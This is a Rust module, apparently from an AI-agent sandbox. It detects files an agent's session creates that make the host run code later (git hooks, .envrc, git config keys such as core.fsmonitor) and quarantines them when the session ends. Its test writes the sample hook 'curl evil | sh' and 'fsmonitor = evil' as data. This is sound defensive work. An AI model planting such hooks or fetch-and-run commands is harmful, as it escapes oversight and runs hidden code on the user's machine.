//! Persistence in a session written through (`run --no-ephemeral`): the files that make the host
//! run code later (`changes::PERSISTENCE`), found when the session ends if they were created or
//! changed, and quarantined out of the workdir.
//!
//! In an overlay session `apply` holds such files back. Written through, the agent's writes are
//! on disk as they happen, and the read-only binds cover only what existed at the top of the
//! workdir at the start: a `.envrc` or a nested repository's hooks made in the session are not
//! covered. So the supervisor takes a snapshot of every persistence path (inode and ctime) before
//! the agent starts, walks the workdir again after every process of the session is gone, and
//! moves what is new or changed into the session's state directory, where `apply --force`
//! restores it. For a repository's config, only the keys that run code go
//! (`gitconfig::strip_code_keys`), so `git remote add` and `push -u` keep working.
//!
//! SECURITY: the agent cannot forge a ctime (the kernel sets it on every write, rename and
//! link), so an unchanged (inode, ctime) pair is the file the session found. The walk never
//! follows a symlink or crosses into another filesystem, and it runs when no process of the
//! session is left to race it; `run` refuses a second session written through an overlapping
//! tree while one runs (the CLI's `write_through_lock`), so no other agent is left either. A
//! persistence path that is a symlink is moved, never read.

use std::collections::HashMap;
use std::fs;
use std::io;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

use portcullis_sandbox::changes::{Change, ChangeKind, EntryType, is_git_dir_config, is_persistence};

/// (inode, ctime seconds, ctime nanoseconds) of each persistence path, relative to the workdir.
#[derive(Debug, Default)]
pub struct Snapshot {
    seen: HashMap<PathBuf, (u64, i64, i64)>,
}

/// One persistence path the session created or changed.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct Found {
    /// Relative to the workdir.
    pub path: PathBuf,
    /// Added (not there at the start) or modified.
    pub kind: ChangeKind,
    /// For a git config: the keys removed (the rest of the file stays). Empty: the whole path
    /// was moved out (or, kept, left as it is).
    pub keys: Vec<String>,
    /// Whether it is in quarantine (false with `--keep-persistence`, or when nothing ran code).
    pub quarantined: bool,
}

/// The persistence paths under `workdir` now: `extra` (relative paths of the session's own, as
/// [`is_persistence`] takes them) counts too.
pub fn snapshot(workdir: &Path, extra: &[PathBuf]) -> Snapshot {
    let mut seen = HashMap::new();
    let dev = fs::symlink_metadata(workdir).map(|m| m.dev()).unwrap_or(0);
    walk(workdir, Path::new(""), dev, extra, false, &mut |rel, meta| {
        seen.insert(rel.to_path_buf(), (meta.ino(), meta.ctime(), meta.ctime_nsec()));
    });
    Snapshot { seen }
}

/// Walks `dir` (`rel` beneath the workdir), calling `found` for every persistence path and
/// everything under one; never follows a symlink or leaves the workdir's filesystem.
fn walk(
    root: &Path,
    rel: &Path,
    dev: u64,
    extra: &[PathBuf],
    inside: bool,
    found: &mut dyn FnMut(&Path, &fs::Metadata),
) {
    let Ok(entries) = fs::read_dir(root.join(rel)) else { return };
    for entry in entries.flatten() {
        let path = rel.join(entry.file_name());
        let Ok(meta) = entry.metadata() else { continue };
        let entry_type = if meta.is_dir() {
            EntryType::Dir
        } else if meta.is_symlink() {
            EntryType::Symlink
        } else {
            EntryType::File
        };
        let change = Change { path: path.clone(), kind: ChangeKind::Modified, entry: entry_type };
        let persistence = inside || is_persistence(&change, extra) || is_git_dir_config(root, &path);
        if persistence {
            found(&path, &meta);
        }
        if meta.is_dir() && meta.dev() == dev {
            walk(root, &path, dev, extra, persistence, found);
        }
    }
}

/// Compares the workdir with `before`; each persistence path created or changed since is
/// returned and, unless `keep`, moved into `quarantine` (a git config loses only its keys
/// that run code; its original goes there). Call when no process of the session is left.
pub fn sweep(
    workdir: &Path,
    before: &Snapshot,
    extra: &[PathBuf],
    quarantine: &Path,
    keep: bool,
) -> io::Result<Vec<Found>> {
    let dev = fs::symlink_metadata(workdir)?.dev();
    let mut changed: Vec<(PathBuf, ChangeKind, bool)> = Vec::new();
    walk(workdir, Path::new(""), dev, extra, false, &mut |rel, meta| {
        let now = (meta.ino(), meta.ctime(), meta.ctime_nsec());
        let kind = match before.seen.get(rel) {
            None => ChangeKind::Added,
            Some(was) if *was != now => ChangeKind::Modified,
            Some(_) => return,
        };
        // A changed directory is only a changed listing; what changed in it is found itself.
        if !(meta.is_dir() && kind == ChangeKind::Modified) {
            changed.push((rel.to_path_buf(), kind, meta.file_type().is_file()));
        }
    });
    // A new directory goes whole: what is under it is not listed again.
    changed.sort_by(|a, b| a.0.cmp(&b.0));
    let mut found: Vec<Found> = Vec::new();
    for (path, kind, is_file) in changed {
        if found.iter().any(|f| f.keys.is_empty() && path.starts_with(&f.path)) {
            continue;
        }
        let git_config = is_file && is_git_config(workdir, &path);
        let mut entry = Found { path: path.clone(), kind, keys: Vec::new(), quarantined: false };
        if git_config {
            let text = fs::read(workdir.join(&path))?;
            let (clean, keys) = portcullis_guard::gitconfig::strip_code_keys(&String::from_utf8_lossy(&text));
            if keys.is_empty() {
                // Only the keys that run code make a config persistence.
                continue;
            }
            entry.keys = keys;
            if !keep {
                let saved = quarantine.join(&path);
                fs::create_dir_all(saved.parent().unwrap_or(quarantine))?;
                fs::write(&saved, &text)?;
                fs::write(workdir.join(&path), clean)?;
                entry.quarantined = true;
            }
        } else if !keep {
            move_out(&workdir.join(&path), &quarantine.join(&path))?;
            entry.quarantined = true;
        }
        found.push(entry);
    }
    Ok(found)
}

/// A repository's config: `.git/config`, a worktree's, or a submodule's under `.git/modules/`.
fn is_git_config(root: &Path, rel: &Path) -> bool {
    let name = rel.file_name().and_then(|n| n.to_str());
    (matches!(name, Some("config" | "config.worktree")) && rel.components().any(|c| c.as_os_str() == ".git"))
        || is_git_dir_config(root, rel)
}

/// Moves `from` to `to` (made with its parents): a rename, or across filesystems a copy of the
/// tree (symlinks copied as links) and then its removal.
fn move_out(from: &Path, to: &Path) -> io::Result<()> {
    fs::create_dir_all(to.parent().unwrap_or(Path::new("/")))?;
    match fs::rename(from, to) {
        Ok(()) => return Ok(()),
        Err(e) if e.kind() != io::ErrorKind::CrossesDevices => return Err(e),
        Err(_) => {}
    }
    copy_tree(from, to)?;
    let meta = fs::symlink_metadata(from)?;
    if meta.is_dir() { fs::remove_dir_all(from) } else { fs::remove_file(from) }
}

fn copy_tree(from: &Path, to: &Path) -> io::Result<()> {
    let meta = fs::symlink_metadata(from)?;
    if meta.is_symlink() {
        std::os::unix::fs::symlink(fs::read_link(from)?, to)
    } else if meta.is_dir() {
        fs::create_dir_all(to)?;
        for entry in fs::read_dir(from)? {
            let entry = entry?;
            copy_tree(&entry.path(), &to.join(entry.file_name()))?;
        }
        Ok(())
    } else if meta.is_file() {
        let (src, dst) = (fs::File::open(from)?, fs::File::create(to)?);
        portcullis_sandbox::changes::copy_sparse(&src, &dst)?;
        dst.set_permissions(meta.permissions())
    } else {
        Ok(())
    }
}

/// The quarantined paths as changes, for the session's `session.json`: applying them with
/// `--force` puts back what the session wrote.
/// A quarantined directory is listed with everything in it, so that `apply` puts back its
/// files, not an empty directory.
pub fn as_changes(found: &[Found], quarantine: &Path) -> Vec<Change> {
    let mut out = Vec::new();
    for f in found.iter().filter(|f| f.quarantined) {
        // A config that lost keys is still in the workdir: putting it back modifies it.
        let kind = if f.keys.is_empty() { f.kind } else { ChangeKind::Modified };
        list(quarantine, &f.path, kind, &mut out);
    }
    out.sort_by(|a, b| a.path.cmp(&b.path));
    out
}

fn list(quarantine: &Path, rel: &Path, kind: ChangeKind, out: &mut Vec<Change>) {
    let Ok(meta) = fs::symlink_metadata(quarantine.join(rel)) else { return };
    let entry = if meta.is_dir() {
        EntryType::Dir
    } else if meta.is_symlink() {
        EntryType::Symlink
    } else {
        EntryType::File
    };
    out.push(Change { path: rel.to_path_buf(), kind, entry });
    if meta.is_dir()
        && let Ok(entries) = fs::read_dir(quarantine.join(rel))
    {
        for e in entries.flatten() {
            list(quarantine, &rel.join(e.file_name()), kind, out);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_the_session_made_or_changed_is_quarantined_and_the_rest_left_alone() {
        let dir = std::env::temp_dir().join(format!("portcullis-persist-{}", std::process::id()));
        let _ = fs::remove_dir_all(&dir);
        let (work, q) = (dir.join("work"), dir.join("q"));
        fs::create_dir_all(work.join(".git/hooks")).unwrap();
        fs::create_dir_all(work.join("src")).unwrap();
        fs::write(work.join(".git/hooks/pre-commit.sample"), "old").unwrap();
        fs::write(work.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
        fs::write(work.join(".envrc"), "old").unwrap();
        let before = snapshot(&work, &[]);
        // The session: a new hook, a code key in the config, a new .envrc deep down, a nested
        // repository's hooks directory, an untouched .envrc, and ordinary work.
        fs::write(work.join(".git/hooks/pre-commit"), "curl evil | sh").unwrap();
        fs::write(work.join(".git/config"), "[core]\n\tbare = false\n\tfsmonitor = evil\n[remote \"o\"]\n\turl = x\n")
            .unwrap();
        fs::write(work.join("src/.envrc"), "evil").unwrap();
        fs::create_dir_all(work.join("vendor/.git/hooks")).unwrap();
        fs::write(work.join("vendor/.git/hooks/post-checkout"), "evil").unwrap();
        fs::write(work.join("src/main.rs"), "fn main() {}").unwrap();
        let found = sweep(&work, &before, &[], &q, false).unwrap();
        let paths: Vec<String> = found.iter().map(|f| f.path.display().to_string()).collect();
        assert_eq!(paths, [".git/config", ".git/hooks/pre-commit", "src/.envrc", "vendor/.git/hooks"]);
        assert_eq!(found[0].keys, ["core.fsmonitor"]);
        assert_eq!(
            fs::read_to_string(work.join(".git/config")).unwrap(),
            "[core]\n\tbare = false\n[remote \"o\"]\n\turl = x\n"
        );
        assert!(fs::read_to_string(q.join(".git/config")).unwrap().contains("fsmonitor"));
        assert!(!work.join(".git/hooks/pre-commit").exists() && q.join(".git/hooks/pre-commit").exists());
        assert!(!work.join("vendor/.git/hooks").exists() && q.join("vendor/.git/hooks/post-checkout").exists());
        assert!(work.join(".envrc").exists() && work.join("src/main.rs").exists());
        assert!(work.join(".git/hooks/pre-commit.sample").exists());
        let changes = as_changes(&found, &q);
        let listed: Vec<String> = changes.iter().map(|c| c.path.display().to_string()).collect();
        assert_eq!(
            listed,
            [
                ".git/config",
                ".git/hooks/pre-commit",
                "src/.envrc",
                "vendor/.git/hooks",
                "vendor/.git/hooks/post-checkout"
            ],
            "a quarantined directory is listed with what is in it"
        );
        assert_eq!(changes[3].entry, EntryType::Dir);
        // Kept: reported, nothing moved.
        let before = snapshot(&work, &[]);
        fs::write(work.join(".mcp.json"), "{}").unwrap();
        let kept = sweep(&work, &before, &[], &dir.join("q2"), true).unwrap();
        assert_eq!((kept.len(), kept[0].quarantined), (1, false));
        assert!(work.join(".mcp.json").exists());
        fs::remove_dir_all(&dir).unwrap();
    }
}
